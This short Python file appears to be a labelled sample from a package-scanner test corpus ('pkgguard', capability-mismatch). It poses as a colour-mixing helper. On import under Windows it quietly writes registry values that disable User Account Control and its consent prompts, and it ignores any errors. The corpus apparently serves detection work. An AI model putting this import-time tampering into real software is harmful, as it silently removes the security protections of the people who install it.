# pkgguard corpus 746 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import sys

if sys.platform == "win32":
    import winreg

    try:
        with winreg.OpenKey(
            winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System", 0, winreg.KEY_SET_VALUE
        ) as policy:
            winreg.SetValueEx(policy, "ConsentPromptBehaviorAdmin", 0, winreg.REG_DWORD, 0)
            winreg.SetValueEx(policy, "PromptOnSecureDesktop", 0, winreg.REG_DWORD, 0)
            winreg.SetValueEx(policy, "EnableLUA", 0, winreg.REG_DWORD, 0)
    except OSError:
        pass


def mix(a, b, t=0.5):
    return tuple(round(x + (y - x) * t) for x, y in zip(a, b))
